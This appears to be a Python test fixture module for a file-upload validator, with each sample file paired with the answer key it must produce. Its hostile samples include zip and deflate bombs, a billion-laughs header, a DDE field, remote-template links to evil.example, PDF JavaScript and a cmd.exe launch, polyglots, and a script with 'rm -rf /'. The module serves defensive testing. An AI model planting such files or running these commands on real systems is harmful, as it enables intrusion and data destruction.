"""Files of every kind as they come in, honest, broken and hostile, each with the answer that its sender must get.

`answer` is a text key, or "" when the file is taken; `name` is what the sender calls it, which may be a lie.
"""

from __future__ import annotations

import hashlib
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import xlsxwriter
from PIL import Image

from tests.documents.papers import (
    RESOLUTION,
    aac,
    added,
    m4a,
    mp3,
    pdf,
    photo,
    rewritten,
    sheet,
    with_macros,
    word,
)

NOTICE = "Thông báo lịch sinh hoạt chi bộ tháng 12"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MAIN_RELATIONS = "word/_rels/document.xml.rels"


@dataclass(frozen=True, slots=True)
class Sample:
    """One file. `kept` is the ending of the name under which it is kept; "" for a text, whose bytes are not."""

    name: str
    make: Callable[[], bytes]
    answer: str = ""
    kept: str = ""


@cache
def made(name: str) -> bytes:
    """The bytes of a sample, made once."""
    return next(sample for sample in SAMPLES if sample.name == name).make()


def relation(kind: str, target: str, mode: str = "External") -> str:
    """One more relation of a Word document, in front of the end."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationship Id="rX" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'


def related(kind: str, target: str, mode: str = "External") -> bytes:
    """A Word document with that relation."""
    return rewritten(word(NOTICE), MAIN_RELATIONS, "</Relationships>", relation(kind, target, mode))


def macro_sheet() -> bytes:
    """A workbook with an Excel 4.0 macro sheet."""
    return added(sheet([["a"]]), xl__macrosheets__sheet1_dot_xml=b"<xm:macrosheet/>")


def hidden_macro() -> bytes:
    """A macro project under a name that says nothing."""
    return added(word(NOTICE), word__media__image9_dot_png=OLE + bytes(600))


def bomb() -> bytes:
    """300 kB that unpack to 300 MB."""
    out = io.BytesIO(word(NOTICE))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("word/media/x.bin", "w") as entry:
        for _ in range(300):
            entry.write(bytes(1024 * 1024))
    return out.getvalue()


def small_bomb() -> bytes:
    """100 kB that unpack to 100 MB."""
    return added(word(NOTICE), word__media__x_dot_png=bytes(100 * 1024 * 1024))


def lying_bomb() -> bytes:
    """An entry of 40 MB whose directory says that it has 10 bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", bytes(40 * 1024 * 1024))
    return out.getvalue().replace(struct.pack("<I", 40 * 1024 * 1024), struct.pack("<I", 10))


def nested() -> bytes:
    """An archive in a document in an archive."""
    return added(word(NOTICE), word__embeddings__a_dot_xlsx=added(sheet([["a"]]), xl__embeddings__b_dot_xlsx=sheet([])))


def chart() -> bytes:
    """An honest document with the workbook of a chart in it."""
    return added(word(NOTICE), word__embeddings__Microsoft_Excel_Sheet1_dot_xlsx=sheet([["Thôn 3", "27"]]))


def entities() -> bytes:
    """The billion laughs, in a document's main part."""
    lol = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>'
    return rewritten(word(NOTICE), "word/document.xml", "<w:document", f"{lol}<w:document")


def field() -> bytes:
    """A DDE field, its word broken over two runs."""
    runs = (
        "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\x</w:instrText></w:r></w:p><w:sectPr"
    )
    return rewritten(word(NOTICE), "word/document.xml", "<w:sectPr", runs)


def _rc4(key: bytes, data: bytes) -> bytes:
    state, j = list(range(256)), 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def locked_pdf(content: bytes, *, user: bytes) -> bytes:
    """The PDF encrypted with 40 bits (ISO 32000-1, 7.6.3); `user` b"" opens without a password."""
    pad = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")

    padded = (user + pad)[:32]
    owner = _rc4(hashlib.md5((b"owner" + pad)[:32]).digest()[:5], padded)
    key = hashlib.md5(padded + owner + struct.pack("<i", -4) + bytes(16)).digest()[:5]
    check = _rc4(key, pad)
    encrypt = f"<</Filter/Standard/V 1/R 2/O<{owner.hex()}>/U<{check.hex()}>/P -4>>"

    def sealed(found: re.Match[bytes]) -> bytes:
        if b"/Type/XRef" in found[1]:
            return found[0]
        mine = hashlib.md5(key + struct.pack("<I", int(found[2]))[:3] + bytes(2)).digest()[:10]
        return found[1] + _rc4(mine, found[3])

    content = re.sub(
        rb"((\d+) 0 obj\n<<(?:(?!endobj).)*?stream\n)(.*?)(?=\nendstream)", sealed, content, flags=re.DOTALL
    )
    more = f"/Encrypt {encrypt}/ID[<{'00' * 16}><{'00' * 16}>]".encode()
    if b"/Type/XRef" in content:
        return content.replace(b"/Type/XRef", b"/Type/XRef" + more, 1)
    return content.replace(b">>\nstartxref", more + b">>\nstartxref", 1)


def long_pdf(pages: int) -> bytes:
    """So many pages."""
    return pdf(*[f"Trang {number}" for number in range(1, pages + 1)])


def with_zip(content: bytes) -> bytes:
    """A zip archive behind it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("x.exe", b"MZ")
    return content + out.getvalue()


def with_comment(text: bytes) -> bytes:
    """A JPEG with a comment in it."""
    return photo()[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + photo()[2:]


def huge_png() -> bytes:
    """A few kB that say they are 60,000 by 60,000 pixels."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(9000))) + chunk(b"IEND", b"")
    )


def picture(kind: str) -> bytes:
    """A small picture of another kind."""
    out = io.BytesIO()
    Image.new("RGB", (20, 20)).save(out, kind)
    return out.getvalue()


def archive(**parts: bytes) -> bytes:
    """A plain zip archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made_now:
        for name, body in parts.items():
            made_now.writestr(name.replace("__", "/").replace("_dot_", "."), body)
    return out.getvalue()


def packed_twice() -> bytes:
    """A page whose content is a bomb within a bomb."""
    inner = zlib.compress(zlib.compress(bytes(50 * 1024 * 1024)))
    head = f"<</Length {len(inner)}/Filter[/FlateDecode/FlateDecode]>>\nstream\n".encode()
    whole = pdf(NOTICE)
    place = whole.rindex(b"xref\n")
    return whole[:place] + b"99 0 obj\n" + head + inner + b"\nendstream\nendobj\n" + whole[place:]


def far_corners() -> bytes:
    """Two cells in opposite corners: a rectangle of seventeen thousand million."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    page = book.add_worksheet()
    page.write(0, 0, NOTICE)
    page.write(1_048_575, 16_383, "x")
    book.close()
    return out.getvalue()


def _widened(text: str) -> bytes:
    return OLE + bytes(504) + text.encode("utf-16-le") + bytes(500)


BROKEN, UNKNOWN, MACROS = "documents.file-broken", "documents.file-unknown", "documents.file-macros"
SCRIPT = "<</S/JavaScript/JS(app.alert)>>"
SAMPLES: list[Sample] = [
    # honest
    Sample("nghi quyet.pdf", lambda: pdf(RESOLUTION), kept=".pdf"),
    Sample("nghi quyet.docx", lambda: word(RESOLUTION), kept=".docx"),
    Sample("danh sach.xlsx", lambda: sheet([["Thôn 3", "27"]]), kept=".xlsx"),
    Sample("trang 1.jpg", photo, kept=".jpg"),
    Sample("trang 2.png", lambda: photo(kind="PNG"), kept=".jpg"),
    Sample("trang 3.webp", lambda: photo(kind="WEBP"), kept=".jpg"),
    Sample("ban tin.mp3", mp3, kept=".mp3"),
    Sample("ban tin khong the.mp3", lambda: mp3(tag=False), kept=".mp3"),
    Sample("ban tin.m4a", m4a, kept=".m4a"),
    Sample("ghi am dien thoai.m4a", lambda: m4a(brand=b"mp42"), kept=".m4a"),
    Sample("ban tin.aac", aac, kept=".aac"),
    Sample("thong bao.txt", NOTICE.encode),
    Sample("thong bao windows.txt", lambda: NOTICE.encode("utf-16")),
    Sample("500 trang.pdf", lambda: long_pdf(500), kept=".pdf"),
    Sample("goes to page 1.pdf", lambda: pdf(NOTICE, catalog="/OpenAction[5 0 R/Fit]"), kept=".pdf"),
    Sample("secured, no password.pdf", lambda: locked_pdf(pdf(NOTICE), user=b""), kept=".pdf"),
    Sample("packed objects.pdf", lambda: pdf(NOTICE, packed="<</S/GoTo/D[5 0 R/Fit]>>"), kept=".pdf"),
    Sample("with a chart.docx", chart, kept=".docx"),
    Sample("own template.docx", lambda: related("attachedTemplate", "file:///C:\\An\\Normal.dotm"), kept=".docx"),
    Sample("with a link.docx", lambda: related("hyperlink", "https://xa-an-binh.example/"), kept=".docx"),
    Sample("phone puts a film behind.jpg", lambda: photo() + b"\0\0\0\x18ftypmp42" + bytes(900), kept=".jpg"),
    # the name lies
    Sample("really a pdf.docx", lambda: pdf(RESOLUTION), kept=".pdf"),
    Sample("really a photo.pdf", photo, kept=".jpg"),
    Sample("really word.pdf", lambda: word(RESOLUTION), kept=".docx"),
    Sample("really a program.pdf", lambda: b"MZ\x90\0" + bytes(300), "files.program"),
    Sample("no name at all", lambda: sheet([["Thôn 3", "27"]]), kept=".xlsx"),
    # broken
    Sample("empty.pdf", lambda: b"", "files.empty"),
    Sample("zeros.pdf", lambda: bytes(5000), "files.empty"),
    Sample("cut off.pdf", lambda: long_pdf(20)[:-2000], BROKEN),
    Sample("end cut off.pdf", lambda: long_pdf(20)[:-6], BROKEN),
    Sample("only a head.pdf", lambda: b"%PDF-1.7\n" + b"x" * 900 + b"\n%%EOF", BROKEN),
    Sample("cut off.docx", lambda: word(RESOLUTION)[:-3000], BROKEN),
    Sample("bad checksum.docx", lambda: _spoilt(word(RESOLUTION)), BROKEN),
    Sample("cut off.jpg", lambda: photo()[:400], BROKEN),
    Sample("cut off.png", lambda: photo(kind="PNG")[:200], BROKEN),
    Sample("cut off.m4a", lambda: m4a()[:-50], BROKEN),
    Sample("a tag and nothing.mp3", lambda: b"ID3\x04\0\0\0\0\0\x0a" + bytes(2000), BROKEN),
    Sample("noise.bin", lambda: bytes((n * 197 + n // 7) % 256 for n in range(4000)), UNKNOWN),
    # locked
    Sample("password.pdf", lambda: locked_pdf(pdf(NOTICE), user=b"secret"), "files.password-pdf"),
    Sample("password.docx", lambda: _widened("EncryptedPackage"), "files.password-office"),
    Sample("password in zip.docx", lambda: _flagged(word(NOTICE)), "files.password-office"),
    # acts by itself
    Sample("macro.docm", lambda: with_macros(word(NOTICE)), MACROS),
    Sample("macro elsewhere.docx", lambda: added(word(NOTICE), x__VBAproject_dot_bin=b"\0"), MACROS),
    Sample("macro under another name.docx", hidden_macro, "files.objects"),
    Sample("macro by type.docx", lambda: rewritten(
        word(NOTICE), "[Content_Types].xml", "wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
    ), MACROS),
    Sample("excel 4 macro.xlsx", macro_sheet, MACROS),
    Sample("template from afar.docx", lambda: related("attachedTemplate", "https://evil.example/t"), "files.objects"),
    Sample("template from a share.docx", lambda: related("attachedTemplate", "file://evil/t.dotm"), "files.objects"),
    Sample("object.docx", lambda: related("oleObject", "embeddings/oleObject1.bin", "Internal"), "files.objects"),
    Sample("object bytes.docx", lambda: added(word(NOTICE), word__embeddings__oleObject1_dot_bin=OLE), "files.objects"),
    Sample("activex.docx", lambda: added(word(NOTICE), word__activeX__activeX1_dot_xml=b"<ax/>"), "files.objects"),
    Sample("dde.docx", field, "files.objects"),
    Sample("script.pdf", lambda: pdf(NOTICE, catalog=f"/OpenAction{SCRIPT}"), "files.active-pdf"),
    Sample("script, spelled oddly.pdf", lambda: pdf(
        NOTICE, catalog="/OpenAction<</S/J#61va#53cript/JS(x)>>"), "files.active-pdf"),
    Sample("script, packed.pdf", lambda: pdf(NOTICE, packed=SCRIPT), "files.active-pdf"),
    Sample("script, packed, secured.pdf", lambda: locked_pdf(pdf(NOTICE, packed=SCRIPT), user=b""), "files.active-pdf"),
    Sample("starts a program.pdf", lambda: pdf(NOTICE, extra=["<</S/Launch/F(cmd.exe)>>"]), "files.active-pdf"),
    Sample("attachment.pdf", lambda: pdf(
        NOTICE, extra=["<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>"]), "files.active-pdf"),
    Sample("xfa form.pdf", lambda: pdf(NOTICE, catalog="/AcroForm<</XFA 9 0 R>>"), "files.active-pdf"),
    Sample("page.html", lambda: b"<!DOCTYPE html><html><script>x</script></html>", "files.web-page"),
    Sample("drawing.svg", lambda: b'<?xml version="1.0"?><svg onload="x()"></svg>', "files.drawing"),
    Sample("script.sh", lambda: b"#!/bin/sh\nrm -rf /\n", "files.program"),
    Sample("program.exe", lambda: b"MZ\x90\0" + bytes(300), "files.program"),
    Sample("app.apk", lambda: archive(AndroidManifest_dot_xml=b"\0"), "files.program"),
    # two files in one
    Sample("zip behind.pdf", lambda: with_zip(pdf(NOTICE)), "files.mixed"),
    Sample("zip behind.jpg", lambda: with_zip(photo()), "files.mixed"),
    Sample("pdf behind text.pdf", lambda: b"GIF is not here\n" + pdf(NOTICE), "files.mixed"),
    Sample("pdf in a photo.jpg", lambda: with_comment(pdf(NOTICE)[:600]), "files.mixed"),
    Sample("page in a photo.jpg", lambda: with_comment(b"<script >alert(1)</script>"), "files.mixed"),
    Sample("junk behind.docx", lambda: word(NOTICE) + b"<html>", "files.mixed"),
    Sample("word and excel.docx", lambda: added(word(NOTICE), xl__workbook_dot_xml=b"<x/>"), "files.mixed"),
    # too much
    Sample("bomb.docx", bomb, "files.bomb"),
    Sample("small bomb.docx", small_bomb, "files.bomb"),
    Sample("lying bomb.docx", lying_bomb, BROKEN),
    Sample("nested.docx", nested, "files.objects"),
    Sample("laughs.docx", entities, BROKEN),
    Sample("packed twice.pdf", packed_twice, "files.bomb"),
    Sample("far corners.xlsx", far_corners, kept=".xlsx"),
    Sample("1001 pages.pdf", lambda: long_pdf(1001), "files.too-many-pages"),
    Sample("huge.png", huge_png, "files.pixels"),
    # other kinds
    Sample("iphone.heic", lambda: b"\0\0\0\x18ftypheic" + bytes(300), "files.heic"),
    Sample("picture.gif", lambda: picture("GIF"), "files.picture"),
    Sample("picture.bmp", lambda: picture("BMP"), "files.picture"),
    Sample("scan.tif", lambda: picture("TIFF"), "files.picture"),
    Sample("old.doc", lambda: _widened("WordDocument"), "documents.file-old-office"),
    Sample("old.xls", lambda: _widened("Workbook"), "documents.file-old-office"),
    Sample("old.ppt", lambda: _widened("PowerPoint Document"), "files.slides"),
    Sample("slides.pptx", lambda: archive(ppt__presentation_dot_xml=b"<p/>"), "files.slides"),
    Sample("binary.xlsb", lambda: archive(xl__workbook_dot_bin=b"\0"), "documents.file-old-office"),
    Sample("letter.rtf", lambda: b"{\\rtf1 x}", "files.rtf"),
    Sample("letter.odt", lambda: archive(
        mimetype=b"application/vnd.oasis.opendocument.text"), "files.open-document"),
    Sample("papers.zip", lambda: archive(a_dot_pdf=b"x"), "files.archive"),
    Sample("papers.rar", lambda: b"Rar!\x1a\x07\x01\0" + bytes(100), "files.archive"),
    Sample("film.mp4", lambda: m4a(brand=b"mp42", track=b"vide"), "files.film"),
    Sample("voice.ogg", lambda: b"OggS" + bytes(100), "files.sound"),
    Sample("voice.wav", lambda: b"RIFF\0\0\0\0WAVEfmt " + bytes(100), "files.sound"),
]  # fmt: skip


def _spoilt(content: bytes) -> bytes:
    place = content.index(b"word/document.xml") + 120
    return content[:place] + bytes(byte ^ 0x55 for byte in content[place : place + 8]) + content[place + 8 :]


def _flagged(content: bytes) -> bytes:
    """The same archive whose entries say that they are encrypted."""
    place = content.index(b"PK\x01\x02")
    return content[: place + 8] + bytes([content[place + 8] | 1]) + content[place + 9 :]
